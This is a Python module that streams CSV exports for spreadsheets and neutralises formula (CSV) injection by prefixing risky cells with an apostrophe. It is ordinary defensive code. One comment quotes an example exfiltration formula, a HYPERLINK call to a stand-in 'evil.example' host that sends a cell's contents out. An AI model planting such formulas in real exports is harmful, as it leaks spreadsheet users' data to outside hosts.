"""CSV for spreadsheets: UTF-8 with a BOM (so Excel reads £ and accents), and no cell that
Excel or LibreOffice would run as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from datetime import date
from decimal import Decimal

# OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
# turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def spreadsheet_cell(value) -> object:
    """Numbers stay numbers; text that could start a formula gets a leading apostrophe.

    Called for every cell of a long export, so the common types are matched by ``type``
    first (a year's export at ten years of data has 60,000 cells of each)."""
    kind = type(value)
    if kind is str:
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    if kind is Decimal or kind is int or kind is date:
        return value  # the csv module writes str(value): a date's str is its isoformat
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str], rows: Iterable[Iterable]) -> Iterable[str]:
    """The lines of a CSV file, for a StreamingHttpResponse: header first, with the BOM."""
    writer = csv.writer(_Echo())
    yield BOM + writer.writerow([spreadsheet_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([spreadsheet_cell(cell) for cell in row])


def csv_blocks(
    header: list[str], rows: Iterable[Iterable], rows_per_block: int = 1000
) -> Iterator[str]:
    """``csv_lines`` in blocks of rows, for a long StreamingHttpResponse: a chunk per row
    costs the server more than the row itself (a year's export at ten years of data:
    60,000 writes to the socket), while a block keeps memory as flat as a row."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    cell = spreadsheet_cell
    buffer.write(BOM)
    writer.writerow([cell(value) for value in header])
    waiting = 0
    for row in rows:
        writer.writerow([cell(value) for value in row])
        waiting += 1
        if waiting == rows_per_block:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
            waiting = 0
    yield buffer.getvalue()
